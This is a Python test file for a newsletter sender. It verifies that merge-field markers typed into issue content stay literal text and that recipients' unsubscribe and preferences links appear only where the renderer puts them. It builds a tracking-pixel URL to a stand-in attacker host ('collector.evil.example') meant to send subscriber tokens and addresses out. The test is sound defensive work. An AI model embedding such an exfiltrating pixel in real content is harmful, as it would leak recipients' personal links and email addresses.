"""Content cannot steal a recipient's links: markers are the renderer's alone."""

import re

from issues import delivery
from issues.compose.blocks import get_kind
from issues.delivery.snapshot import freeze_snapshot
from issues.models import Block
from tests.support.composing import upload
from tests.support.delivery import make_subscribers, wait_for_dispatch
from tests.support.factories import make_issue

# Every marker name the sender has ever used, and the ESP merge-field form of two of them.
NAMES = [
    "UNSUBSCRIBE_URL",
    "PREFERENCES_URL",
    "SUBSCRIBER_NAME",
    "SUBSCRIBER_EMAIL",
    "SUBSCRIBER_NAME_HTML",
    "SUBSCRIBER_EMAIL_HTML",
    "TO",
    "MESSAGE_ID",
    "DATE",
    "UNSUBSCRIBE_MAILTO",
]
EVERY_MARKER = "".join(f"%%{name}%%" for name in NAMES)
STEALING_URL = "https://collector.evil.example/p.gif?" + "&".join(
    f"{name.lower()}=%%{name}%%" for name in NAMES
)


def hostile_blocks(issue):
    blocks = [
        ("markdown", {"body": f"Text: {EVERY_MARKER} and %recipient.unsubscribe_url%"}),
        ("markdown", {"body": f"[a link]({STEALING_URL}) ![alt {EVERY_MARKER}]({STEALING_URL})"}),
        ("link_list", {"items": f"Read {EVERY_MARKER} | {STEALING_URL} | note {EVERY_MARKER}"}),
        ("button", {"label": "Click", "url": STEALING_URL}),
    ]
    for position, (kind, raw) in enumerate(blocks, start=50):
        Block.objects.create(
            issue=issue, position=position, kind=kind, data=get_kind(kind).validate(raw)
        )
    image = get_kind("image").validate(
        {"alt": f"alt {EVERY_MARKER}", "caption": EVERY_MARKER, "link": STEALING_URL},
        {"image": upload()},
    )
    Block.objects.create(issue=issue, position=60, kind="image", data=image)


def test_markers_written_by_an_editor_stay_text_and_links_go_only_where_the_renderer_put_them(
    start_worker, smtp_sink
):
    issue = make_issue(title=f"Subject {EVERY_MARKER}", frozen=True)
    hostile_blocks(issue)
    issue.preheader = EVERY_MARKER
    issue.save()
    freeze_snapshot(issue)
    readers = make_subscribers(issue.newsletter, 3)
    start_worker()

    wait_for_dispatch(delivery.start_dispatch(issue), timeout=60)

    assert len(smtp_sink.messages) == 3
    decoded = [as_read(received.message) for received in smtp_sink.messages]
    everything = "".join(decoded)
    for received, whole in zip(smtp_sink.messages, decoded, strict=True):
        message = received.message
        (reader,) = [r for r in readers if r.email == received.rcpt_tos[0]]
        header = message["List-Unsubscribe"]
        unsubscribe = re.search(r"/unsubscribe/([^/>]+)/>", header).group(1)
        preferences = set(re.findall(r"/preferences/([^/\"<>\s]+)/", whole))
        assert len(preferences) == 1, "one preferences link, the reader's own"
        (preferences,) = preferences
        # The unsubscribe link: the header, the HTML footer and the text footer.
        assert whole.count(unsubscribe) == 3
        # The preferences link: the HTML footer and the text footer, nowhere else.
        assert whole.count(preferences) == 2
        assert everything.count(unsubscribe) == 3 and everything.count(preferences) == 2
        # The address: the To header only.
        assert whole.count(reader.email) == 1 and message["To"] == reader.email
        # What the editor typed arrives as typed: no value was put in its place.
        text, html = (part.get_content() for part in message.get_payload())
        assert EVERY_MARKER in text and "%recipient.unsubscribe_url%" in text
        assert "p.gif?unsubscribe_url=%%UNSUBSCRIBE_URL%%&amp;" in html
        assert f"alt {EVERY_MARKER}" in html
        assert EVERY_MARKER in message["Subject"]


def as_read(message) -> str:
    """Every header and every part, decoded as a mail client shows them."""
    headers = "\n".join(f"{name}: {value}" for name, value in message.items())
    return headers + "".join(part.get_content() for part in message.get_payload())
